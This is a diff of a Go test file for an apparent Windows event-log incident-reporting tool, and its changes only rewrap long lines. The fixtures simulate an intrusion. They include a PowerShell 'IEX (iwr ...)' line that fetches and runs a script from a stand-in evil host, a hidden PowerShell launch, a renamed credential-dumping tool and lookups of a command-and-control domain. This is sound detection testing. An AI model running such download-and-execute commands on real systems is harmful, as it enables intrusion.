@@ -93,7 +93,8 @@ func checkReport(t *testing.T, r *report.Report) {
 		}
 	}
 	for id, f := range byID {
-		if weighs := f.Status == report.StatusFinding && f.Rule.Severity.AtLeast(report.SeverityMedium); told[id] != (f.Incident != "") || weighs && !told[id] {
+		if weighs := f.Status == report.StatusFinding &&
+			f.Rule.Severity.AtLeast(report.SeverityMedium); told[id] != (f.Incident != "") || weighs && !told[id] {
 			t.Errorf("%s is of the incident %q, and told of one: %v", id, f.Incident, told[id])
 		}
 	}
@@ -127,8 +128,10 @@ func checkReport(t *testing.T, r *report.Report) {
 	counted := s.Headline == string(s.Verdict)
 	if n := len(r.Incidents); n > 0 {
 		i := &r.Incidents[0]
-		counted = strings.HasPrefix(s.Headline, report.Count(n, "suspected incident", "suspected incidents")+" on ") && strings.Contains(s.Headline, i.Hosts[0]) &&
-			strings.Contains(s.Headline, fmt.Sprintf("%s severity, %s confidence", s.Severity, s.Confidence)) && i.Severity == s.Severity
+		counted = strings.HasPrefix(s.Headline, report.Count(n, "suspected incident", "suspected incidents")+" on ") &&
+			strings.Contains(s.Headline, i.Hosts[0]) &&
+			strings.Contains(s.Headline, fmt.Sprintf("%s severity, %s confidence", s.Severity, s.Confidence)) &&
+			i.Severity == s.Severity
 	} else if s.Findings+s.Partial > 0 {
 		counted = strings.HasPrefix(s.Headline, "No suspected incident: ")
 	}
@@ -179,7 +182,8 @@ func checkFinding(t *testing.T, r *report.Report, f *report.Finding) {
 		t.Errorf("%s: context %v", f.ID, f.Context)
 	}
 	for _, i := range f.Context {
-		if row := r.Timeline[i]; row.Host != f.Host || *row.Time+120*evtx.TicksPerSecond < *f.Start || *row.Time > *f.End+120*evtx.TicksPerSecond {
+		if row := r.Timeline[i]; row.Host != f.Host || *row.Time+120*evtx.TicksPerSecond < *f.Start ||
+			*row.Time > *f.End+120*evtx.TicksPerSecond {
 			t.Errorf("%s: context row %d is of %s at %s", f.ID, i, row.Host, row.Time)
 		}
 	}
@@ -236,7 +240,8 @@ func TestTheLineageShowsAncestorsEvidenceAndWhatItStarted(t *testing.T) {
 	w.Start("09:01:00", 101, chrome, chrome+" --type=renderer", 100, chrome)
 	w.Start("09:01:01", 102, `C:\Windows\System32\notepad.exe`, "notepad", 100, chrome)
 	w.Start("09:10:05", 201, `C:\Users\j.doe\AppData\Local\Temp\stage.exe`, "stage.exe", 200, shell)
-	w.Start("09:10:06", 202, `C:\Windows\System32\whoami.exe`, "whoami /all", 201, `C:\Users\j.doe\AppData\Local\Temp\stage.exe`)
+	w.Start("09:10:06", 202, `C:\Windows\System32\whoami.exe`, "whoami /all", 201,
+		`C:\Users\j.doe\AppData\Local\Temp\stage.exe`)
 	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
 	want := `explorer.exe ?
   chrome.exe +2
@@ -256,7 +261,8 @@ func TestTheLineageIsBoundedInDepthAndBreadth(t *testing.T) {
 	t.Parallel()
 	w := reporttest.NewWorld(t)
 	for i := range 30 {
-		w.Start(fmt.Sprintf("08:00:%02d", i), 10+i, fmt.Sprintf(`C:\a\p%d.exe`, i), "p", 9+i, fmt.Sprintf(`C:\a\p%d.exe`, i-1))
+		w.Start(fmt.Sprintf("08:00:%02d", i), 10+i, fmt.Sprintf(`C:\a\p%d.exe`, i), "p", 9+i,
+			fmt.Sprintf(`C:\a\p%d.exe`, i-1))
 	}
 	w.Start("09:00:00", 200, shell, "powershell", 39, `C:\a\p29.exe`)
 	for i := range 60 {
@@ -285,7 +291,8 @@ func TestProcessesWithoutACommonAncestorHaveTreesOfTheirOwn(t *testing.T) {
 	w.Created("09:10:04", 900, `C:\x\other.exe`, `C:\Users\j.doe\AppData\Local\Temp\drop.dll`)
 	w.Start("09:00:00", 900, `C:\x\other.exe`, "other", 800, `C:\x\service.exe`)
 	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
-	want := "(no common ancestor in the logs) ?\n  chrome.exe ?\n    powershell.exe !\n  service.exe ?\n    other.exe !\n"
+	want := "(no common ancestor in the logs) ?\n  chrome.exe ?\n    powershell.exe !\n  service.exe ?\n    " +
+		"other.exe !\n"
 	if have := outline(f.Lineage); have != want {
 		t.Errorf("have\n%swant\n%s", have, want)
 	}
@@ -299,9 +306,12 @@ func TestContextIsTheNearestAndSaysThatThereIsMore(t *testing.T) {
 	w := reporttest.NewWorld(t)
 	reporttest.Attack(w)
 	for i := range 200 {
-		w.Sysmon(5, fmt.Sprintf("09:%02d:%02d", 9+i/100, i%100*59/100), fmt.Sprintf("ProcessGuid=%d", 5000+i), "ProcessId=5", `Image=C:\x.exe`)
+		w.Sysmon(5, fmt.Sprintf("09:%02d:%02d", 9+i/100, i%100*59/100), fmt.Sprintf("ProcessGuid=%d", 5000+i),
+			"ProcessId=5", `Image=C:\x.exe`)
 	}
-	w.Sysmon(7, "09:10:01", "ProcessGuid=200", "ProcessId=200", "Image="+shell, `ImageLoaded=C:\Windows\System32\ntdll.dll`) // too loud to show
+	// too loud to show
+	w.Sysmon(7, "09:10:01", "ProcessGuid=200", "ProcessId=200", "Image="+shell,
+		`ImageLoaded=C:\Windows\System32\ntdll.dll`)
 	w.Sysmon(5, "10:00:00", "ProcessGuid=1", "ProcessId=5", `Image=C:\far.exe`)
 	r := w.Report(build.Options{MaxRows: 50}, rules.Options{}, "rules.toml")
 	f := reporttest.Only(t, r, "test-browser-shell")
@@ -316,11 +326,14 @@ func TestContextIsTheNearestAndSaysThatThereIsMore(t *testing.T) {
 			t.Errorf("a row at %s is not among the nearest to %s", row.Time, f.Start)
 		}
 	}
-	if !slices.ContainsFunc(r.Accounting.Bounds, func(b report.BoundNote) bool { return b.ID == "report-context-events" }) {
+	if !slices.ContainsFunc(r.Accounting.Bounds, func(b report.BoundNote) bool {
+		return b.ID == "report-context-events"
+	}) {
 		t.Errorf("the bound is not said: %v", r.Accounting.Bounds)
 	}
 	w.Sysmon(5, "09:10:30", "ProcessGuid=7000", "ProcessId=5", `Image=C:\x.exe`)
-	if few := w.Report(build.Options{MaxRows: 3}, rules.Options{}, "rules.toml"); len(few.Timeline) > len(f.Evidence)+3 {
+	if few := w.Report(build.Options{MaxRows: 3}, rules.Options{}, "rules.toml"); len(few.Timeline) >
+		len(f.Evidence)+3 {
 		t.Errorf("%d rows beside %d of evidence, want 3 at most", len(few.Timeline)-len(f.Evidence), len(f.Evidence))
 	}
 }
@@ -338,7 +351,8 @@ func TestCopiesOfALogAreCitedAndCountedOnce(t *testing.T) {
 	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
 	f := reporttest.Only(t, r, "test-browser-shell")
 	for _, e := range f.Evidence {
-		if len(e.Also) != 1 || e.Also[0].Why != "duplicate" || e.Also[0].File == e.Ref.File || e.Also[0].PayloadSHA256 != e.Ref.PayloadSHA256 {
+		if len(e.Also) != 1 || e.Also[0].Why != "duplicate" || e.Also[0].File == e.Ref.File ||
+			e.Also[0].PayloadSHA256 != e.Ref.PayloadSHA256 {
 			t.Errorf("%s: also %+v", e.Label, e.Also)
 		}
 	}
@@ -357,7 +371,8 @@ func TestTheSessionIsFoundInAnotherFile(t *testing.T) {
 	reporttest.Attack(w)
 	w.Logon(reporttest.TestHost, "08:00:00", "j.doe", "0x7030d", "10", "10.0.0.7")
 	l := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell").Logon
-	if l == nil || l.Type != "RemoteInteractive" || l.SourceIP != "10.0.0.7" || l.User != `CORP\j.doe` || l.SID != "S-1-5-21-1-2-3-1104" || l.Source != "Security 4624" || l.Ref.File != "Security.evtx" {
+	if l == nil || l.Type != "RemoteInteractive" || l.SourceIP != "10.0.0.7" || l.User != `CORP\j.doe` ||
+		l.SID != "S-1-5-21-1-2-3-1104" || l.Source != "Security 4624" || l.Ref.File != "Security.evtx" {
 		t.Errorf("%+v", l)
 	}
 }
@@ -367,7 +382,8 @@ func TestASessionWhoseLogonIsNotLoggedSaysSo(t *testing.T) {
 	w := reporttest.NewWorld(t)
 	reporttest.Attack(w)
 	l := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell").Logon
-	if l == nil || l.Type != "" || l.SourceIP != "" || l.User != `CORP\j.doe` || l.LogonID != "0x7030d" || l.Source != "Sysmon 1: the logon itself is not in the logs" || l.Time != nil {
+	if l == nil || l.Type != "" || l.SourceIP != "" || l.User != `CORP\j.doe` || l.LogonID != "0x7030d" ||
+		l.Source != "Sysmon 1: the logon itself is not in the logs" || l.Time != nil {
 		t.Errorf("%+v", l)
 	}
 }
@@ -378,11 +394,15 @@ func TestProvenanceRunsFromAddressToNetwork(t *testing.T) {
 	payload := `C:\Users\j.doe\Downloads\invoice.exe`
 	w.Start("09:00:00", 100, chrome, chrome, 90, `C:\Windows\explorer.exe`)
 	w.Created("09:10:00", 100, chrome, payload)
-	w.Sysmon(15, "09:10:01", "ProcessGuid=100", "ProcessId=100", "Image="+chrome, "TargetFilename="+payload+":Zone.Identifier", "Hash=Unknown",
+	w.Sysmon(15, "09:10:01", "ProcessGuid=100", "ProcessId=100", "Image="+chrome,
+		"TargetFilename="+payload+":Zone.Identifier", "Hash=Unknown",
 		"Contents=[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.example/  HostUrl=https://cdn.example/invoice.exe")
-	w.Start("09:10:10", 200, payload, payload, 100, chrome, "Hashes=SHA256=6C8BC844085A1EE3BD837199F8680C665CC662A23931BB708E869A1BEBF9DB8E")
-	w.Sysmon(22, "09:10:12", "ProcessGuid=200", "ProcessId=200", "QueryName=c2.example", "QueryStatus=0", "Image="+payload)
-	w.Sysmon(22, "09:10:13", "ProcessGuid=100", "ProcessId=100", "QueryName=news.example", "QueryStatus=0", "Image="+chrome)
+	w.Start("09:10:10", 200, payload, payload, 100, chrome,
+		"Hashes=SHA256=6C8BC844085A1EE3BD837199F8680C665CC662A23931BB708E869A1BEBF9DB8E")
+	w.Sysmon(22, "09:10:12", "ProcessGuid=200", "ProcessId=200", "QueryName=c2.example", "QueryStatus=0",
+		"Image="+payload)
+	w.Sysmon(22, "09:10:13", "ProcessGuid=100", "ProcessId=100", "QueryName=news.example", "QueryStatus=0",
+		"Image="+chrome)
 	w.Created("09:10:14", 100, chrome, `C:\Users\j.doe\Downloads\holiday.jpg`)
 	r := w.Report(build.Options{}, rules.Options{}, "run.toml")
 	f := reporttest.Only(t, r, "test-download-run")
@@ -390,7 +410,8 @@ func TestProvenanceRunsFromAddressToNetwork(t *testing.T) {
 	for _, p := range f.Provenance {
 		have = append(have, string(p.Kind)+" "+p.Text+" ("+p.Source+")")
 	}
-	want := []string{"url https://mail.example/ (Sysmon 15 Zone.Identifier, referrer)", "url https://cdn.example/invoice.exe (Sysmon 15 Zone.Identifier)",
+	want := []string{"url https://mail.example/ (Sysmon 15 Zone.Identifier, referrer)",
+		"url https://cdn.example/invoice.exe (Sysmon 15 Zone.Identifier)",
 		"file " + payload + " (Sysmon 11)", "execution " + payload + " (Sysmon 1)", "network c2.example (Sysmon 22)"}
 	if !slices.Equal(have, want) {
 		t.Errorf("have %q\nwant %q", have, want)
@@ -405,16 +426,24 @@ func TestIndicatorsMeanSomething(t *testing.T) {
 	hashes := func(c string) string {
 		return "Hashes=MD5=" + strings.Repeat(c, 32) + ",SHA256=" + strings.Repeat(c, 64)
 	}
-	w.Start("09:10:00", 200, shell, "powershell IEX (iwr https://cdn.evil.example/a.ps1?x=1); iwr http://localhost:3000/; iwr http://dl.corp.example/x.msi; iwr https://drive.google.com/uc?id=1 -x 'http://schemas.microsoft.com/p'", 100, chrome,
+	w.Start("09:10:00", 200, shell,
+		"powershell IEX (iwr https://cdn.evil.example/a.ps1?x=1); iwr http://localhost:3000/; iwr "+
+			"http://dl.corp.example/x.msi; iwr https://drive.google.com/uc?id=1 -x 'http://schemas.microsoft.com/p'",
+		100, chrome,
 		hashes("A"), "OriginalFileName=PowerShell.EXE")
 	w.Start("09:10:01", 201, temp, temp, 200, shell, hashes("B"))
-	w.Start("09:10:02", 202, `C:\Windows\System32\payload.exe`, "payload.exe", 200, shell, hashes("C"), "OriginalFileName=mimi.exe") // somebody's copy
-	w.Start("09:10:03", 203, `C:\Windows\System32\evil.exe`, "evil.exe", 200, shell, "Hashes=MD5="+strings.Repeat("0", 32), "OriginalFileName=evil.exe")
+	// somebody's copy
+	w.Start("09:10:02", 202, `C:\Windows\System32\payload.exe`, "payload.exe", 200, shell, hashes("C"),
+		"OriginalFileName=mimi.exe")
+	w.Start("09:10:03", 203, `C:\Windows\System32\evil.exe`, "evil.exe", 200, shell,
+		"Hashes=MD5="+strings.Repeat("0", 32), "OriginalFileName=evil.exe")
 	for i, to := range []string{"127.0.0.1", "fe80::1", "10.9.9.9", "198.51.100.7", "::1", "224.0.0.1"} {
-		w.Sysmon(3, fmt.Sprintf("09:10:1%d", i), "ProcessGuid=201", "ProcessId=201", "Image="+temp, "DestinationIp="+to, "DestinationPort=443", "Protocol=tcp", "Initiated=true")
+		w.Sysmon(3, fmt.Sprintf("09:10:1%d", i), "ProcessGuid=201", "ProcessId=201", "Image="+temp, "DestinationIp="+to,
+			"DestinationPort=443", "Protocol=tcp", "Initiated=true")
 	}
 	for i, name := range []string{"ws-01.corp.example", "WPAD", "7.100.51.198.in-addr.arpa", "c2.evil.example"} {
-		w.Sysmon(22, fmt.Sprintf("09:10:2%d", i), "ProcessGuid=201", "ProcessId=201", "QueryName="+name, "QueryStatus=0", "Image="+temp)
+		w.Sysmon(22, fmt.Sprintf("09:10:2%d", i), "ProcessGuid=201", "ProcessId=201", "QueryName="+name,
+			"QueryStatus=0", "Image="+temp)
 	}
 	var have []string
 	for _, n := range w.Report(build.Options{}, rules.Options{}, "shell.toml").Indicators {
@@ -425,12 +454,15 @@ func TestIndicatorsMeanSomething(t *testing.T) {
 		have = append(have, line)
 	}
 	want := []string{
-		"domain c2.evil.example", "domain cdn.evil.example", "domain dl.corp.example (in the domain of the hosts examined)",
+		"domain c2.evil.example", "domain cdn.evil.example",
+		"domain dl.corp.example (in the domain of the hosts examined)",
 		"domain drive.google.com (widely used service: the name by itself is not a sign of an attack)",
 		"ip 10.9.9.9 (private address: means something within this network only)", "ip 198.51.100.7",
-		"md5 " + strings.Repeat("b", 32), "md5 " + strings.Repeat("c", 32), "path " + temp, `path C:\Windows\System32\payload.exe`,
+		"md5 " + strings.Repeat("b", 32), "md5 " + strings.Repeat("c", 32), "path " + temp,
+		`path C:\Windows\System32\payload.exe`,
 		"sha256 " + strings.Repeat("b", 64), "sha256 " + strings.Repeat("c", 64),
-		"url http://dl.corp.example/x.msi (in the domain of the hosts examined)", "url https://cdn.evil.example/a.ps1?x=1", "url https://drive.google.com/uc?id=1",
+		"url http://dl.corp.example/x.msi (in the domain of the hosts examined)",
+		"url https://cdn.evil.example/a.ps1?x=1", "url https://drive.google.com/uc?id=1",
 	}
 	slices.Sort(want)
 	slices.Sort(have)
@@ -448,13 +480,20 @@ func TestAccountsAndTheWaysBetweenHosts(t *testing.T) {
 	w.Logon(server, "09:20:00", "j.doe", "0x9001", "3", "10.0.0.7")
 	w.Logon(server, "09:21:00", "j.doe", "0x9002", "3", "10.0.0.7")
 	w.Logon(server, "09:22:00", "adm", "0x9003", "10", "::ffff:10.0.0.8")
-	w.SecurityOn(server, 4625, "09:23:00", "TargetUserSid=S-1-0-0", "TargetUserName=adm", "TargetDomainName=CORP", "LogonType=3", "IpAddress=10.0.0.7", "WorkstationName=KIOSK", "Status=0xc000006d")
-	w.Security(4648, "09:19:00", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe", "SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP", "TargetServerName=SRV-02.corp.example")
-	w.Security(4648, "09:19:01", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe", "SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP", "TargetServerName=localhost")
+	w.SecurityOn(server, 4625, "09:23:00", "TargetUserSid=S-1-0-0", "TargetUserName=adm", "TargetDomainName=CORP",
+		"LogonType=3", "IpAddress=10.0.0.7", "WorkstationName=KIOSK", "Status=0xc000006d")
+	w.Security(4648, "09:19:00", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
+		"SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP",
+		"TargetServerName=SRV-02.corp.example")
+	w.Security(4648, "09:19:01", "SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
+		"SubjectDomainName=CORP", "SubjectLogonId=0x7030d", "TargetUserName=adm", "TargetDomainName=CORP",
+		"TargetServerName=localhost")
 	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
 	var accounts, edges []string
 	for _, a := range r.Accounts {
-		accounts = append(accounts, fmt.Sprintf("%s %s: %d logons, %d failures, %d findings, %s on %s", a.Name, a.SID, a.Logons, a.Failures, a.Findings, strings.Join(a.LogonTypes, "+"), strings.Join(a.Hosts, "+")))
+		accounts = append(accounts,
+			fmt.Sprintf("%s %s: %d logons, %d failures, %d findings, %s on %s", a.Name, a.SID, a.Logons, a.Failures,
+				a.Findings, strings.Join(a.LogonTypes, "+"), strings.Join(a.Hosts, "+")))
 	}
 	for _, e := range r.LateralEdges {
 		edges = append(edges, fmt.Sprintf("%s -> %s: %s of %s, %d", e.From, e.To, e.How, e.User, e.Count))
@@ -481,12 +520,14 @@ func TestFindingIdsAreStable(t *testing.T) {
 	reporttest.Attack(a)
 	reporttest.Attack(b)
 	b.Write()
-	if err := os.Rename(filepath.Join(b.Dir, "Microsoft-Windows-Sysmon%4Operational.evtx"), filepath.Join(b.Dir, "x.bin")); err != nil {
+	if err := os.Rename(filepath.Join(b.Dir, "Microsoft-Windows-Sysmon%4Operational.evtx"),
+		filepath.Join(b.Dir, "x.bin")); err != nil {
 		t.Fatal(err)
 	}
 	b.Logs = nil
 	x := reporttest.Only(t, a.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
-	y := reporttest.Only(t, b.Report(build.Options{Run: report.Run{NoDefaultTuning: true}}, rules.Options{}, "rules.toml", "shell.toml"), "test-browser-shell")
+	y := reporttest.Only(t, b.Report(build.Options{Run: report.Run{NoDefaultTuning: true}}, rules.Options{},
+		"rules.toml", "shell.toml"), "test-browser-shell")
 	if x.ID != y.ID {
 		t.Errorf("%s and %s", x.ID, y.ID)
 	}
@@ -509,7 +550,8 @@ func TestTwinsAreOneEventWithBothReferences(t *testing.T) {
 	twinOf(w, "j.doe", "0x7030d")
 	f := reporttest.Only(t, w.Report(build.Options{}, rules.Options{}, "rules.toml"), "test-browser-shell")
 	also := f.Evidence[0].Also
-	if len(also) != 1 || also[0].Why != "twin" || also[0].Channel != "Security" || also[0].EventCode != "4688" || also[0].PayloadSHA256 == "" {
+	if len(also) != 1 || also[0].Why != "twin" || also[0].Channel != "Security" || also[0].EventCode != "4688" ||
+		also[0].PayloadSHA256 == "" {
 		t.Errorf("%+v", also)
 	}
 	if len(f.Labels) > 0 {
@@ -519,23 +561,37 @@ func TestTwinsAreOneEventWithBothReferences(t *testing.T) {
 
 // twinOf adds the 4688 of the attack's shell, for a user.
 func twinOf(w *reporttest.World, user, logonID string) {
-	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing", GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2, Time: reporttest.When("09:10:00"),
-		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName="+user, "SubjectDomainName=CORP", "SubjectLogonId="+logonID),
-			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(200)}, evtxtest.Str("NewProcessName", shell), evtxtest.Str("TokenElevationType", "%%1938"),
-			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)}, evtxtest.Str("CommandLine", "powershell.exe -nop -w hidden"), evtxtest.Pair{Name: "TargetUserSid", Value: evtxtest.SID("S-1-0-0")},
-			evtxtest.Str("TargetUserName", "-"), evtxtest.Str("TargetDomainName", "-"), evtxtest.Pair{Name: "TargetLogonId", Value: evtxtest.Hex64(0)}, evtxtest.Str("ParentProcessName", chrome))})
+	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
+		GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2,
+		Time: reporttest.When("09:10:00"),
+		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName="+user,
+			"SubjectDomainName=CORP", "SubjectLogonId="+logonID),
+			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(200)}, evtxtest.Str("NewProcessName", shell),
+			evtxtest.Str("TokenElevationType", "%%1938"),
+			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)},
+			evtxtest.Str("CommandLine", "powershell.exe -nop -w hidden"),
+			evtxtest.Pair{Name: "TargetUserSid", Value: evtxtest.SID("S-1-0-0")},
+			evtxtest.Str("TargetUserName", "-"), evtxtest.Str("TargetDomainName", "-"),
+			evtxtest.Pair{Name: "TargetLogonId", Value: evtxtest.Hex64(0)}, evtxtest.Str("ParentProcessName", chrome))})
 }
 
 func TestShiftedValuesAreSaidInTheSummaryAndTheAccounting(t *testing.T) {
 	t.Parallel()
 	w := reporttest.NewWorld(t)
 	reporttest.Attack(w)
-	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing", GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2, Time: reporttest.When("09:20:00"),
-		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe", "SubjectDomainName=CORP", "SubjectLogonId=0x7030d"),
-			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(300)}, evtxtest.Str("NewProcessName", shell), evtxtest.Str("TokenElevationType", "%%1938"),
-			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)}, evtxtest.Pair{Name: "CommandLine", Value: evtxtest.SID("S-1-0-0")}, evtxtest.Str("TargetUserSid", "-"),
-			evtxtest.Str("TargetUserName", "-"), evtxtest.Pair{Name: "TargetDomainName", Value: evtxtest.Hex64(0)}, evtxtest.Str("TargetLogonId", chrome),
-			evtxtest.Pair{Name: "ParentProcessName", Value: evtxtest.SID("S-1-16-8192")}, evtxtest.Str("MandatoryLabel", ""))})
+	w.Add("Security", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
+		GUID: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Channel: "Security", EventID: 4688, Version: 2,
+		Time: reporttest.When("09:20:00"),
+		Data: append(reporttest.Pairs("SubjectUserSid=S-1-5-21-1-2-3-1104", "SubjectUserName=j.doe",
+			"SubjectDomainName=CORP", "SubjectLogonId=0x7030d"),
+			evtxtest.Pair{Name: "NewProcessId", Value: evtxtest.Hex64(300)}, evtxtest.Str("NewProcessName", shell),
+			evtxtest.Str("TokenElevationType", "%%1938"),
+			evtxtest.Pair{Name: "ProcessId", Value: evtxtest.Hex64(100)},
+			evtxtest.Pair{Name: "CommandLine", Value: evtxtest.SID("S-1-0-0")}, evtxtest.Str("TargetUserSid", "-"),
+			evtxtest.Str("TargetUserName", "-"), evtxtest.Pair{Name: "TargetDomainName", Value: evtxtest.Hex64(0)},
+			evtxtest.Str("TargetLogonId", chrome),
+			evtxtest.Pair{Name: "ParentProcessName", Value: evtxtest.SID("S-1-16-8192")},
+			evtxtest.Str("MandatoryLabel", ""))})
 	r := w.Report(build.Options{}, rules.Options{}, "rules.toml")
 	if d := r.Accounting.Damage; len(d) != 1 || d[0].Kind != "values-shifted" || d[0].Loses {
 		t.Errorf("damage %+v", d)
@@ -549,7 +605,8 @@ func TestFindingsOfTheSameEventsUnderOtherKeysHaveIDsOfTheirOwn(t *testing.T) {
 	w := reporttest.NewWorld(t)
 	w.Start("09:00:00", 100, chrome, "one two three", 90, `C:\Windows\explorer.exe`)
 	w.Start("09:00:01", 200, shell, "one two four", 100, chrome)
-	if err := os.WriteFile(filepath.Join(w.Dir, "rule.eql"), []byte(`sequence by process.args with maxspan=30s [process where process.name == "chrome.exe"] [process where process.name == "powershell.exe"]`), 0o600); err != nil {
+	if err := os.WriteFile(filepath.Join(w.Dir, "rule.eql"),
+		[]byte(`sequence by process.args with maxspan=30s [process where process.name == "chrome.exe"] [process where process.name == "powershell.exe"]`), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	w.Write()
